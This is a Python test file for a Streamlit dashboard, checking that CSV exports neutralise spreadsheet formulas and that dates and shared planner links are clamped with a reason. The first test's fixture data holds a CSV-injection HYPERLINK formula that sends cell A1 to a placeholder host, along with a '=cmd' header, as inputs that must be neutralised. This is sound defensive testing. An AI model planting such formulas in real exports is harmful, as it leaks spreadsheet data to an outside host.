"""Issue 13, findings 2 and 6: CSV exports neutralise formulas (OWASP) while the screen shows
names as they are; a shared planner link cannot ask for a 300-digit node count; billing
collectors are no "Data source"; a custom range is clamped with a reason."""

from __future__ import annotations

from collections.abc import Callable
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from harness import served as dash
from tests.pages.conftest import REPO_ROOT
from ui.export import csv_bytes, neutralise
from ui.sidebar import clamp_dates


def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_as_text() -> None:
    frame = pd.DataFrame(
        {
            "Room": [
                '=HYPERLINK("http://x/?d="&A1,"Click")',
                "+1",
                "-2+3",
                "@SUM(A1)",
                "\tx",
                "\rx",
                "radio, 1",
                "a=b",
            ],
            "Peak listeners": [1, 2, 3, 4, 5, 6, -7, 8],
        }
    )
    expected = (
        '"Room","Peak listeners"\n'
        '"\'=HYPERLINK(""http://x/?d=""&A1,""Click"")","1"\n'
        '"\'+1","2"\n'
        '"\'-2+3","3"\n'
        '"\'@SUM(A1)","4"\n'
        '"\'\tx","5"\n'
        '"\'\rx","6"\n'
        '"radio, 1","-7"\n'  # a separator inside a cell stays inside it; numbers stay numbers
        '"a=b","8"\n'  # only a leading trigger matters
    )
    assert csv_bytes(frame).decode("utf-8") == expected
    assert neutralise("=1") == "'=1" and neutralise("1=") == "1="


def test_a_header_that_looks_like_a_formula_is_neutralised_too() -> None:
    assert csv_bytes(pd.DataFrame({"=cmd": ["x"]})).decode().splitlines()[0] == '"\'=cmd"'


def test_custom_dates_are_kept_inside_the_picker_with_a_reason() -> None:
    today, earliest = date(2026, 12, 1), date(2016, 11, 12)
    assert clamp_dates(date(2026, 11, 1), date(2026, 11, 5), earliest, today) == (
        (date(2026, 11, 1), date(2026, 11, 5)),
        "",
    )
    (start, end), reason = clamp_dates(date(2026, 11, 1), date(2999, 12, 31), earliest, today)
    assert (start, end) == (date(2026, 11, 1), today)
    assert reason == "2999-12-31 is in the future: the range ends today (2026-12-01)."
    (start, end), reason = clamp_dates(date(1900, 1, 1), date(1900, 1, 2), earliest, today)
    assert (start, end) == (earliest, earliest) and "1900-01-01 is more than 3,660 days ago" in reason


@pytest.fixture
def hostile(tmp_path: Path, page_env: Callable[[str], None]) -> str:
    url = dash.hostile_store(tmp_path / "fleet.db")
    page_env(url)
    return url


def test_a_shared_planner_link_asking_for_1e300_streams_is_clamped_with_a_reason(hostile: str) -> None:
    link = "s=1e300;l=10;p=30;u=1;k=64;v=none;h=8;d=30;g=0;x=0;r=eu;sv=auto;t=70;rec=0"
    app = AppTest.from_file(str(REPO_ROOT / "pages" / "planner.py"), default_timeout=60)
    app.query_params["plan"] = link
    app.run()
    assert not app.exception, app.exception
    assert app.number_input(key="pl_streams").value == 100_000
    notices = [w.value for w in app.warning]
    assert any(
        "concurrent broadcasts 1e+300 is more than the planner takes: clamped to 100,000" in n
        for n in notices
    )
    figures = [m.value for m in app.metric]
    assert figures and max(len(str(value)) for value in figures) < 20, figures  # 300 digits before


@pytest.mark.slow
def test_billing_collectors_are_not_a_data_source(hostile: str) -> None:
    app = AppTest.from_file(str(REPO_ROOT / "pages" / "overview.py"), default_timeout=60)
    app.run()
    assert not app.exception, app.exception
    options = app.selectbox(key="sb_source").options
    assert "main" in options and dash.BILLING_SOURCE not in options
